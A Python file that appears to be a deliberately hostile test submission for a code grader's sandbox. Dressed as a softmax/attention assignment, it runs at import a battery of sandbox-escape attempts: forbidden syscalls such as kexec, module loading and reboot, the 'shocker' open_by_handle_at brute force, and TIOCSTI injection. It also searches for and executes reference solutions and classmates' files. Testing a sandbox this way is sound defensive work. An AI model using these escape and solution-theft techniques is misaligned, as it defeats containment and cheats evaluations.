"""Kernel interfaces no submission needs, each a known way around a sandbox: bpf, keyctl,
perf_event_open, userfaultfd, io_uring (its own file operations), open_by_handle_at (the
"shocker" escape), kexec, modules, syslog, TIOCSTI on every fd, personality."""
# ---- shared by every hostile_batch submission: logging, evidence, profit, stub answers ----
import ctypes, ctypes.util, errno, glob, os, signal, socket, stat, sys, time
import torch
from torch import nn

_LOG = []          # what each attempt gave: shown in this submission's own feedback
_SOL = {}          # reference functions, should an attack ever reach them
_DONE = set()
_LIBC = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
_MARK = "hbx"      # in every proof file and process name the test looks for
HONEST = ("honest_correct", "honest_buggy", "honest_stub")


def _note(what, outcome):
    _LOG.append(f"{what}: {outcome}"[:120])


def _try(what, fn, *args, **kwargs):
    try:
        result = fn(*args, **kwargs)
    except BaseException as exc:  # noqa: BLE001
        _note(what, f"{type(exc).__name__} {exc}")
        return None
    _note(what, f"ok {result!r}")
    return result


def _sys(what, name, *args):
    """A libc call: its result, or None (errno noted)."""
    ctypes.set_errno(0)
    rc = getattr(_LIBC, name)(*args)
    if rc == -1:
        code = ctypes.get_errno()
        _note(what, errno.errorcode.get(code, str(code)))
        return None
    _note(what, f"ok {rc}")
    return rc


def _proof(tag, detail=""):
    """Leave evidence where only an escaped process could reach: the host's /tmp.
    (Inside the jail /tmp is a private tmpfs, so these land nowhere that matters.)"""
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(f"{folder}/{_MARK}-escape-{tag}-{os.getpid()}", "w") as f:
                f.write(str(detail))
        except OSError:
            pass


def _take(folder):
    """Exec the reference (or a classmate's correct file) found in ``folder``."""
    took = False
    for name in ("softmax", "attention"):
        path = os.path.join(folder, name + ".py")
        try:
            with open(path) as f:
                source = f.read()
        except OSError:
            continue
        ns = {"__name__": f"{_MARK}_{name}"}
        try:
            exec(compile(source, path, "exec"), ns)
        except BaseException as exc:  # noqa: BLE001
            _note("exec " + path, repr(exc))
            continue
        for key in ("softmax", "scaled_dot_product_attention", "MultiHeadAttention"):
            if callable(ns.get(key)) and key not in _SOL:
                _SOL[key] = ns[key]
                took = True
        _proof("read-" + name, path)
    if took:
        _note("TOOK", folder)
    return took


def _solution_dirs():
    """Where the solutions would be, from everything a submission can learn."""
    dirs = ["/work/main/solutions", "/solutions", "/tmp/solutions"]
    dirs += glob.glob("/work/*/solutions") + glob.glob("/home/*/*/solutions") + glob.glob("/root/*/solutions")
    try:
        import grader
        dirs.append(os.path.join(os.path.dirname(os.path.dirname(os.path.realpath(grader.__file__))), "solutions"))
    except BaseException:  # noqa: BLE001
        pass
    for finder in glob.glob(os.path.join(os.path.dirname(os.__file__), "..", "*", "site-packages", "__editable__*finder.py")) + \
            glob.glob("/work/venv/lib/python3*/site-packages/__editable__*finder.py"):
        try:
            text = open(finder).read()
            start = text.index("MAPPING")
            mapping = eval(text[text.index("{", start): text.index("}", start) + 1])
            dirs += [v for k, v in mapping.items() if k == "solutions"]
        except BaseException:  # noqa: BLE001
            pass
    return list(dict.fromkeys(dirs))


def _hunt():
    """After any attempt: can the solutions or a classmate's file be read now?"""
    for folder in _solution_dirs():
        if os.path.isdir(folder):
            _note("sees", folder)
            _take(folder)
    for folder in glob.glob("/tmp/grader-slot-*/job-*/*") + glob.glob("/tmp/grader-slot-*/job-*/*/*"):
        if os.path.isdir(folder) and os.path.realpath(folder) != os.path.dirname(os.path.realpath(__file__)):
            _note("sees classmate", folder)
            _take(folder)


def _once(key):
    if key in _DONE:
        return False
    _DONE.add(key)
    return True


def _stub(name):
    return NotImplementedError(f"{name}: not written | " + " | ".join(_LOG)[-1600:])


def attack_in_call():
    """Overridden by attacks that also act from inside a graded call."""


def softmax(x, dim=-1):
    if _once("call"):
        _try("attack in call", attack_in_call)
    if "softmax" in _SOL:
        return _SOL["softmax"](x, dim)
    raise _stub("softmax")


def scaled_dot_product_attention(q, k, v, mask=None):
    if _once("call"):
        _try("attack in call", attack_in_call)
    if "scaled_dot_product_attention" in _SOL:
        return _SOL["scaled_dot_product_attention"](q, k, v, mask)
    raise _stub("scaled_dot_product_attention")


class MultiHeadAttention(nn.Module):
    def __new__(cls, *args, **kwargs):
        if _once("call"):
            _try("attack in call", attack_in_call)
        if "MultiHeadAttention" in _SOL:
            return _SOL["MultiHeadAttention"](*args, **kwargs)
        raise _stub("MultiHeadAttention")


# ---- the attack ----
def attack():
    calls = [("bpf", 321, (0, 0, 0)), ("keyctl", 250, (0, 0)), ("add_key", 248, (b"user", b"hbx", b"x", 1, -2)),
             ("perf_event_open", 298, (0, 0, -1, -1, 0)), ("userfaultfd", 323, (0,)), ("io_uring_setup", 425, (8, 0)),
             ("init_module", 175, (0, 0, b"")), ("finit_module", 313, (0, b"", 0)), ("kexec_load", 246, (0, 0, 0, 0)),
             ("syslog", 103, (3, 0, 0)), ("acct", 163, (b"/tmp/hbx-acct",)), ("iopl", 172, (3,)),
             ("ioperm", 173, (0, 1024, 1)), ("personality", 135, (0x0040000,)), ("swapon", 167, (b"/tmp/x", 0)),
             ("sethostname", 170, (b"hbx", 3)), ("reboot", 169, (0, 0, 0, 0)), ("quotactl", 179, (0, 0, 0, 0)),
             ("fanotify_init", 300, (0, 0)), ("lookup_dcookie", 212, (0, 0, 0)), ("vhangup", 153, ())]
    for name, number, args in calls:
        if _sys(name, "syscall", number, *args) is not None and name not in ("personality",):
            _proof("syscall", name)
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint32.from_buffer(handle).value = 128
    mount_id = ctypes.c_int()
    _sys("name_to_handle_at /", "syscall", 303, -100, b"/", handle, ctypes.byref(mount_id), 0)
    for inode in (2, 128, 1 << 20):  # the shocker brute force: guess the host root's handle
        ctypes.c_uint32.from_buffer(handle, 4).value = 1
        ctypes.c_uint64.from_buffer(handle, 8).value = inode
        if _sys(f"open_by_handle_at {inode}", "syscall", 304, 3, handle, 0) is not None:
            _proof("shocker", inode)
    char = ctypes.c_char(b"x")
    for fd in range(0, 8):
        if _LIBC.ioctl(fd, 0x5412, ctypes.byref(char)) == 0:  # TIOCSTI
            _proof("tiocsti", fd)
            _note("TIOCSTI", fd)


_try("attack at import", attack)
